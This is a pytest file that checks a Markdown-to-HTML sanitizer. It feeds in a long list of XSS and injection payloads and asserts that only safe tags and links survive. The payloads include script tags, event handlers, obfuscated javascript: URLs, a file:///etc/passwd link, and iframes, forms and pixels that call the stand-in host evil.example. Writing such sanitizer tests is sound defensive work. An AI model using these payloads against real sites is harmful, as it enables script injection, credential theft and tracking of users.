"""Markdown of editors becomes HTML that can do nothing but be read."""

import re
from html.parser import HTMLParser

import pytest

from campaign import markdown

NASTY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="https://evil.example"></object>',
    '<embed src="https://evil.example">',
    '<form action="https://evil.example"><input name=password></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a onclick="alert(1)" href="#">x</a>',
    '<p id="main" class="exit">x</p>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x](x "onerror=alert(1)")',
    "![x][i]\n\n[i]: https://evil.example/pixel.png",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
    "> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>\n  - [x](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<\x00script>alert(1)</script>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "</div></main></body>",
    "[" * 5_000,
    "*" * 5_000,
    "> " * 500 + "x",
]


class Seen(HTMLParser):
    """The tags of a piece of HTML, with their attributes."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.values = [], []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.values += [(tag, name, value) for name, value in attributes]


@pytest.mark.parametrize("text", NASTY, ids=lambda text: repr(text[:40]))
def test_nothing_nasty_comes_out(text):
    html = markdown.to_html(text)
    seen = Seen(html)

    assert set(seen.tags) <= markdown.TAGS
    for tag, name, value in seen.values:
        assert (tag, name) in {("a", "href"), ("a", "rel"), ("a", "title")}, (tag, name)
        if name == "href":
            assert re.match(r"https?://|mailto:|[^:]*\Z", value), value
    assert not re.search(r"</(div|main|body|html)", html)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**a** *b*", "<p><strong>a</strong> <em>b</em></p>"),
        ("## A\n\n- b\n- c", "<h2>A</h2>\n<ul>\n<li>b</li>\n<li>c</li>\n</ul>"),
        (
            "[x](https://ok.example/?a=1&b=2)",
            '<p><a href="https://ok.example/?a=1&amp;b=2" rel="noreferrer noopener">x</a></p>',
        ),
        ("[x](../share/)", '<p><a href="../share/" rel="noreferrer noopener">x</a></p>'),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
    ],
)
def test_what_editors_mean_comes_out(text, html):
    assert markdown.to_html(text).strip() == html


def test_a_picture_is_left_out():
    assert markdown.to_html("![A hundred marks](https://evil.example/x.png)").strip() == "<p></p>"
